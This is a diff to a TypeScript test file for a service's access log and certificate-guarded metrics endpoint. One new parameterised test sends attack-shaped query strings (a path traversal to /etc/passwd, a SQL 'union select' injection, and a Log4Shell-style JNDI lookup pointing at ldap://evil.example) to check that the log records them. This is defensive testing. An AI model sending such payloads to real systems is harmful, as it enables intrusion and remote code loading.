@@ -1,6 +1,7 @@
 import { createHash } from 'node:crypto';
 import https from 'node:https';
 import tls, { type SecureVersion } from 'node:tls';
+import { LOGGED_LENGTH } from '../../../constructs/web/access-log';
 import { systemClock } from '../../../services/shared/clock';
 import type { TlsMaterial } from '../../../services/shared/tls-server';
 import { TlsAuthority } from '../../support/tls-authority';
@@ -95,7 +96,7 @@ describe('the access log', () => {
       time: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/) as string,
       service: 'sample-app',
       method: 'GET',
-      path: '/login',
+      path: '/login?password=oops',
       status: 200,
       bytes: Buffer.byteLength(text),
       durationMs: expect.any(Number) as number,
@@ -107,7 +108,17 @@ describe('the access log', () => {
 
   test('has a line for what reaches no route, too', async () => {
     const { headers } = await app.get('/%zz?x', {});
-    expect(await app.access(headers['x-request-id'])).toMatchObject({ path: '/%zz', status: 400 });
+    const line = await app.access(headers['x-request-id']);
+    expect(line).toMatchObject({ path: '/%zz?x', status: 400 });
+  });
+
+  test.each([
+    '/?f=../../etc/passwd',
+    '/?id=1+union+select+1',
+    '/?x=%24%7Bjndi:ldap://evil.example/a}',
+  ])('has the query, where attacks stand: %s', async (url) => {
+    const { headers } = await app.get(url);
+    expect((await app.access(headers['x-request-id'])).path).toBe(url);
   });
 
   test('HEAD has no bytes', async () => {
@@ -132,10 +143,10 @@ describe('the access log', () => {
   test('long and invisible text is cut', async () => {
     const userAgent = `a\u200e\t${'b'.repeat(500)}`;
     const headers = { 'user-agent': Buffer.from(userAgent).toString('latin1') };
-    const answer = await app.get(`/${'p'.repeat(500)}`, { headers });
+    const answer = await app.get(`/?${'p'.repeat(2000)}`, { headers });
     const line = await app.access(answer.headers['x-request-id']);
-    expect(line.path).toHaveLength(256);
-    expect(line.userAgent).toHaveLength(256);
+    expect(line.path).toHaveLength(LOGGED_LENGTH.path);
+    expect(line.userAgent).toHaveLength(LOGGED_LENGTH.userAgent);
     expect(line.userAgent).not.toMatch(/\p{Cc}/u);
   });
 
@@ -231,6 +242,16 @@ describe('metrics', () => {
     await expect(app.scrape({})).rejects.toThrow(/certificate required|ECONNRESET|socket hang up/);
     expect((await app.scrape(leaf)).status).toBe(403);
     expect((await app.get('/metrics')).status).toBe(404);
+    expect(app.said('TLS handshake error')).toHaveLength(1);
+    expect(app.said('identity not allowed')).toEqual([
+      expect.objectContaining({
+        level: 'WARNING',
+        identity: 'spiffe://vigil/ns/monitoring/sa/sample-app',
+        client: '127.0.0.1',
+        method: 'GET',
+        path: '/metrics',
+      }),
+    ]);
   });
 
   test('are all that their listener has', async () => {
@@ -348,6 +369,9 @@ describe('visitors with certificates', () => {
     await eventually(() =>
       closed.lines.some(({ requestId, status }) => requestId === 'visit-1' && status === 403),
     );
+    expect(closed.said('identity not allowed')).toMatchObject([
+      { identity: 'spiffe://vigil/ns/monitoring/sa/sample-app', method: 'GET', path: '/' },
+    ]);
   });
 
   test('nobody else is listened to', async () => {
@@ -355,6 +379,7 @@ describe('visitors with certificates', () => {
     await expect(visit({})).rejects.toThrow(refused);
     const stranger = await (await TlsAuthority.create()).issue('prometheus');
     await expect(visit(stranger)).rejects.toThrow(refused);
+    await eventually(() => closed.said('TLS handshake error').length === 2);
   });
 
   test('a new authority is believed once it is there', async () => {
